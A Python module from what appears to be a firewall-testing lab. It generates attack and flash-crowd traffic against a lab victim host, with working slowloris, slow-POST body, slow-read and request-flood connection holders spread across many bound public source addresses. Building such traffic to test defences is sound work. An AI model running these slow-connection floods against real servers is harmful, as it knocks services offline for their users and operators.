"""Crowds: clients with real connections from many addresses, an attack or a flash crowd.

Some hold connections: unfinished requests, answers that are hardly read, silence, and a pool. As slowloris,
R-U-Dead-Yet and slowhttptest do it, each connection is opened again when the server ends it. A pool is no
attack: it asks once and keeps the connection, as proxies do.
"""

from __future__ import annotations

import asyncio
import contextlib
import random
import socket
import ssl
import time
from typing import Any

from fwtop.lab import network as net
from fwtop.lab.traffic.pools import public_address

_AGAIN_SECONDS = 1.0
_BODY = 8_192  # bytes that a slow body announces
_WINDOW = 1_024  # bytes of the receive buffer of a slow reader; the kernel makes it 2,304
_READ = 16  # bytes at a time
_PIPELINED = 60  # requests of a slow reader: more than its window takes


class Crowd:
    """One crowd of a scenario, made of workers that share its rate evenly."""

    def __init__(self, number: int, table: dict[str, Any], seed: int) -> None:
        self._table = table
        self._addresses = addresses(number, int(table["clients"]), seed)
        self._rng = random.Random(f"crowd/{seed}/{number}/pace")  # noqa: S311
        self._tasks: list[asyncio.Task[None]] = []
        self._open: set[socket.socket] = set()
        self.tried = self.succeeded = 0

    def start(self) -> None:
        """Start the workers."""
        pause = _WORKERS / float(self._table["rate"])
        self._tasks = [asyncio.ensure_future(self._worker(pause)) for _ in range(_WORKERS)]

    async def stop(self) -> None:
        """Send and read nothing more; held connections stay open, as fwtop may look at them last."""
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        self._tasks = []

    async def _worker(self, pause: float) -> None:
        due = time.monotonic() + self._rng.random() * pause
        while True:
            await asyncio.sleep(max(0.0, due - time.monotonic()))
            due = max(due + pause, time.monotonic() - 1.0)
            self.tried += 1
            try:
                async with asyncio.timeout(_SECONDS):
                    await self._visit(self._rng.choice(self._addresses))
                self.succeeded += 1
            except (OSError, TimeoutError):
                continue

    async def _visit(self, address: str) -> None:
        tls = self._table["protocol"] == "tls"
        port = net.PORT_TLS if tls else net.PORT_HTTP
        reader, writer = await asyncio.open_connection(net.VICTIM_4, port, local_addr=(address, 0))
        try:
            writer.write(client_hello(self._table["host"]) if tls else self._request())
            while await reader.read(65_536):
                pass
        finally:
            writer.close()

    def _request(self) -> bytes:
        path = self._rng.choice(self._table["paths"]).replace("{random}", f"{self._rng.getrandbits(40):010x}")
        agent = self._rng.choice(self._table["agents"])
        return (
            f"GET {path} HTTP/1.1\r\nHost: {self._table['host']}\r\nUser-Agent: {agent}\r\n"
            "Accept: */*\r\nConnection: close\r\n\r\n"
        ).encode()


class HeldCrowd(Crowd):
    """A crowd that opens its connections at its rate and keeps them."""

    def start(self) -> None:
        """Begin to open connections, those of an earlier attack included."""
        for end in self._open:
            end.close()
        self._open.clear()
        self._tasks = [
            asyncio.ensure_future(self._hold(turn, turn / float(self._table["rate"])))
            for turn in range(int(self._table["connections"]))
        ]

    async def _hold(self, turn: int, delay: float) -> None:
        await asyncio.sleep(delay)
        address = self._addresses[turn % len(self._addresses)]
        while True:
            self.tried += 1
            end = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            self._open.add(end)
            with contextlib.suppress(OSError, TimeoutError):
                await self._keep(end, address)
            end.close()
            self._open.discard(end)
            await asyncio.sleep(_AGAIN_SECONDS)

    async def _keep(self, end: socket.socket, address: str) -> None:
        """Open one connection and hold it until the server ends it; raises OSError or TimeoutError."""
        loop, protocol = asyncio.get_running_loop(), self._table["protocol"]
        end.setblocking(False)
        end.bind((address, 0))
        if protocol == "slow_read":
            end.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _WINDOW)
        async with asyncio.timeout(_AGAIN_SECONDS * 5):
            await loop.sock_connect(end, (net.VICTIM_4, int(self._table["port"])))
        self.succeeded += 1
        await loop.sock_sendall(end, self._first())
        while protocol == "slow_read":
            await asyncio.sleep(float(self._table["pause"]))
            if not await loop.sock_recv(end, _READ):
                return
        while protocol == "pool":
            if not await loop.sock_recv(end, 65_536):
                return
        while True:
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(float(self._table["pause"])):
                    await loop.sock_recv(end, 4096)
                    return  # an answer, or the end
            await loop.sock_sendall(end, self._more())

    def _first(self) -> bytes:
        path, agent = self._rng.choice(self._table["paths"]), self._rng.choice(self._table["agents"])
        head = f"{{}} {path} HTTP/1.1\r\nHost: {self._table['host']}\r\nUser-Agent: {agent}\r\n"
        match self._table["protocol"]:
            case "slow_headers":
                return head.format("GET").encode()
            case "slow_body":
                kind = "Content-Type: application/x-www-form-urlencoded\r\n"
                return f"{head.format('POST')}{kind}Content-Length: {_BODY}\r\n\r\nq=".encode()
            case "slow_read":
                return f"{head.format('GET')}\r\n".encode() * _PIPELINED
            case "pool":
                return f"{head.format('GET')}\r\n".encode()
        return b""

    def _more(self) -> bytes:
        match self._table["protocol"]:
            case "slow_headers":
                return b"X-%04x: %d\r\n" % (self._rng.getrandbits(16), self._rng.randrange(5000))
            case "slow_body":
                return b"%x" % self._rng.getrandbits(8)
        return b""


_SECONDS = 2.0
_WORKERS = 64


def addresses(number: int, clients: int, seed: int) -> list[str]:
    """Draw the addresses of a scenario's crowd, deterministically from the seed."""
    rng = random.Random(f"crowd/{seed}/{number}")  # noqa: S311
    return [str(public_address(4, rng)) for _ in range(clients)]


def client_hello(host: str) -> bytes:
    """Return the TLS ClientHello that this machine's OpenSSL sends for a host name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=host)
    try:
        session.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise RuntimeError("a handshake can't end without an answer")
